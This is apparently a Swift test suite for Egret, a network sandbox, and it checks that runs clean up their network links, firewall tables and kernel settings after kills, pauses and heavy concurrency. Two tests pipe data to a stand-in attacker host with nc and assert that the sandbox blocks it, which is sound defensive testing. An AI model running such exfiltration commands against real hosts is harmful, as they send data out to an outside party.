// Copyright the Egret authors.
// SPDX-License-Identifier: Apache-2.0

import EgretTesting
import Testing

/// What is left after ends of every kind: nothing.
@Suite("the end of a run", .serialized, .requiresRoot)
struct RunCleanupTests {
    @Test("killed at any moment, a run takes its command along, and the next collection removes the rest")
    func killed() throws {
        try withInternet("ckill") { internet in
            var generator = SeededGenerator(seed: 20_261_121)
            for _ in 0..<20 {
                let delay = Int.random(in: 0...160, using: &generator)
                let output = try internet.script(
                    """
                    egret run --report none --allow 203.0.113.10 -- sh -c 'sleep 0.0\(delay % 10); exec sleep 77.123' &
                    run=$!
                    sleep 0.\(delay < 10 ? "00" : delay < 100 ? "0" : "")\(delay)
                    kill -9 $run
                    alive() {
                        for p in $(pgrep -x egret-init) $(pgrep -fx 'sleep 77.123'); do
                            grep -qz EGRET_LAB=ckill /proc/$p/environ && echo $p is alive
                        done
                    }
                    wait $run
                    for i in {1..50}; do [ "$(alive)" ] || break; sleep 0.01; done
                    alive
                    egret gc >/dev/null || echo gc failed
                    """)
                #expect(output.standardOutput == "", "after \(delay) ms: \(output.standardError)")
                let remains = try internet.remains()
                #expect(remains == "", "after \(delay) ms")
            }
        }
    }

    @Test("killed while it cleans up, a run is cleaned up after by the next run")
    func killedAtTheEnd() throws {
        try withInternet("ckillend") { internet in
            for step in 0..<8 {
                let output = try internet.script(
                    """
                    m=$(mktemp -u)
                    egret run --report none --allow 203.0.113.10 -- touch $m &
                    until [ -e $m ]; do :; done
                    sleep 0.00\(step * 12 / 10)
                    kill -9 $!; wait $!
                    rm $m
                    egret run --report none -- true; echo $?
                    """)
                #expect(output.standardOutput == "0\n", "\(output.standardError)")
                let remains = try internet.remains()
                #expect(remains == "")
            }
        }
    }

    @Test("a socket handed to a process outside holds a link that is down, and collecting removes it")
    func strayLink() throws {
        let keep =
            "import socket, sys, time; listener = socket.socket(socket.AF_UNIX); listener.bind(sys.argv[1]); "
            + "listener.listen(); outside, _ = listener.accept(); held = socket.recv_fds(outside, 1, 1); time.sleep(60)"
        let hand =
            "import socket, sys; outside = socket.socket(socket.AF_UNIX); outside.connect(sys.argv[1]); "
            + "inside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            + "socket.send_fds(outside, [b'x'], [inside.fileno()])"
        try withInternet("cstray") { internet in
            let output = try internet.script(
                """
                s=$(mktemp -u)
                /usr/bin/python3 -Sc "\(keep)" $s & keeper=$!
                until [ -S $s ]; do sleep 0.01; done; sleep 0.1
                egret run --report none --allow 203.0.113.10 -- /usr/bin/python3 -Sc "\(hand)" $s
                sleep 0.5
                ip -o link show egret0 | grep -o 'state [A-Z]*'
                nft list tables
                egret gc
                ip -o link | grep -c 'egret[0-9]'
                egret gc
                kill $keeper; rm $s
                """)
            #expect(
                output.standardOutput == "state DOWN\nremoved egret0\n0\nnothing to remove\n", "\(output.standardError)"
            )
        }
    }

    @Test("a command that hands out sockets again and again does not fill the host with links")
    func strayLinks() throws {
        try withInternet("cstrays") { internet in
            let keep =
                "import socket, sys; l = socket.socket(socket.AF_UNIX); l.bind(sys.argv[1]); l.listen(); k = []\n"
                + "while True: c, _ = l.accept(); k += socket.recv_fds(c, 1, 1)[1]"
            let hand =
                "import socket, sys; o = socket.socket(socket.AF_UNIX); o.connect(sys.argv[1]); "
                + "i = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); socket.send_fds(o, [b'x'], [i.fileno()])"
            let output = try internet.script(
                """
                s=$(mktemp -u)
                /usr/bin/python3 -Sc "\(keep)" $s & keeper=$!
                until [ -S $s ]; do sleep 0.01; done; sleep 0.1
                for i in $(seq 20); do egret run --report none -- /usr/bin/python3 -Sc "\(hand)" $s; done
                [ $(ip -o link | grep -c 'egret[0-9]') -le 9 ] && echo few
                kill $keeper; rm $s; egret gc >/dev/null
                """)
            #expect(output.standardOutput == "few\n", "\(output.standardError)")
            let remains = try internet.remains()
            #expect(remains == "")
        }
    }

    @Test("collecting after a dead run leaves a live one as it is, and forgets the dead one's connections")
    func liveRunStays() throws {
        try withInternet("clive") { internet in
            let output = try internet.script(
                """
                f=$(mktemp); g=$(mktemp)
                egret run --report none --allow 203.0.113.10:80 -- bash -c "echo up >$f; for i in {1..100}; do
                    [ -e $f.go ] && break; sleep 0.05; done; curl -sS -m 3 http://203.0.113.10/;
                    curl -sS -m 0.5 http://203.0.113.11/; echo \\$?" 2>/dev/null &
                live=$!
                egret run --report none --allow 203.0.113.10:9001 -- bash -c "exec 3<>/dev/tcp/203.0.113.10/9001
                    echo up >$g; sleep 60" &
                dead=$!
                until [ -s $f ] && [ -s $g ]; do sleep 0.02; done
                kill -9 $dead; wait $dead 2>/dev/null
                conntrack -L 2>/dev/null | grep -c 9001
                egret gc | grep -c removed
                conntrack -L 2>/dev/null | grep -c 9001
                cat /proc/sys/net/ipv4/conf/eth0/forwarding
                touch $f.go; wait $live; rm $f $g $f.go
                """)
            #expect(
                output.standardOutput == "1\n1\n0\n1\nhello from web1 to 192.0.2.2\n28\n", "\(output.standardError)")
            let remains = try internet.remains()
            #expect(remains == "")
        }
    }

    @Test("while Egret is stopped, its policy holds")
    func stoppedSupervisor() throws {
        try withInternet("cstop") { internet in
            let output = try internet.script(
                """
                f=$(mktemp)
                egret run --report none --allow 203.0.113.10 -- bash -c "echo up >$f; sleep 0.4
                    curl -sS -m 1 http://203.0.113.10/; echo secret | nc -w 1 198.51.100.66 4444; echo \\$?" &
                until [ -s $f ]; do sleep 0.02; done
                kill -STOP $!; sleep 2.5; kill -CONT $!; wait $!; rm $f
                """)
            #expect(output.standardOutput == "hello from web1 to 192.0.2.2\n1\n", "\(output.standardError)")
            #expect(internet.log(of: .attacker).isEmpty)
            let remains = try internet.remains()
            #expect(remains == "")
        }
    }

    @Test("a switch that was on stays on, and one that somebody moved meanwhile stays theirs")
    func switches() throws {
        try withInternet("cswitch") { internet in
            let output = try internet.script(
                """
                cd /proc/sys/net; r() { egret run --report none --allow 203.0.113.10 "$@"; }
                show() { echo $(cat ipv4/conf/eth0/forwarding netfilter/nf_conntrack_acct \
                    ipv6/conf/eth0/accept_ra); }
                r -- true; show
                echo 1 >ipv4/ip_forward; r -- true; show; echo 0 >ipv4/ip_forward
                echo 1 >ipv6/conf/all/forwarding; r -- true; show
                [ $(cat ipv6/conf/all/forwarding) = 1 ] || echo IPv6 forwarding went off; echo 0 >ipv6/conf/all/forwarding
                f=$(mktemp)
                r -- sh -c "echo up >$f; sleep 0.5" & until [ -s $f ]; do sleep 0.02; done
                show; echo 2 >ipv6/conf/eth0/accept_ra; echo 0 >netfilter/nf_conntrack_acct; wait; show; rm $f
                echo 0 >ipv6/conf/eth0/accept_ra
                """)
            #expect(
                output.standardOutput == "0 0 0\n1 0 0\n0 0 0\n1 1 0\n0 0 2\n", "\(output.standardError)")
            let remains = try internet.remains()
            #expect(remains == "")
        }
    }

    @Test("two hosts that share /run leave each other alone")
    func twoHosts() throws {
        try withInternet("ctwo") { internet in
            let output = try internet.script(
                """
                one() { for i in {1..15}; do $1 egret run --report none -- true || echo failed $1; done; }
                unshare -n sh -c 'ip link set lo up; exec sleep 30' & other=$!
                until [ "$(readlink /proc/$other/ns/net)" != "$(readlink /proc/$$/ns/net)" ]; do sleep 0.02; done
                one & a=$!
                one "nsenter -t $other -n" & b=$!
                wait $a $b
                kill $other
                """)
            #expect(output.standardOutput == "", "\(output.standardError)")
            let remains = try internet.remains()
            #expect(remains == "")
        }
    }

    @Test("two hundred runs at once: none collides, each is right, and nothing is left", .timeLimit(.minutes(5)))
    func manyAtOnce() throws {
        try withInternet("cmany") { internet in
            let output = try internet.script(
                """
                d=$(mktemp -d)
                for i in {1..200}; do
                    egret run --report json --report-file $d/$i.json --allow 203.0.113.10:80 -- sh -c "
                        curl -sS -m 50 -o /dev/null http://203.0.113.10/bytes/$i && echo ok $i
                        ip -4 -o addr show eth0 | cut -d' ' -f7 >$d/$i.addr; sleep 0.3
                        echo x | nc -u -w 1 198.51.100.66 53" >$d/$i.out 2>&1 &
                done
                wait
                cat $d/*.out | sort | uniq -c | grep -vE '^ +1 ok [0-9]+$'
                cat $d/*.out | wc -l; sort -u $d/*.addr | wc -l
                /usr/bin/python3 - $d <<'END'
                import json, sys
                right = 0
                for i in range(1, 201):
                    r = json.load(open(f"{sys.argv[1]}/{i}.json"))
                    right += (len(r["reached"]) == 1 and r["reached"][0]["connections"] == 1 and len(r["refused"]) == 1
                        and r["reached"][0]["received"]["bytes"] > i and r["refused"][0]["destination"] == "198.51.100.66")
                print(right)
                END
                rm -r $d
                """.replacing("                ", with: ""), timeout: .seconds(300))
            #expect(output.standardOutput == "200\n200\n200\n", "\(output.standardError)")
            #expect(internet.log(of: .attacker).isEmpty)
            let remains = try internet.remains()
            #expect(remains == "")
        }
    }
}
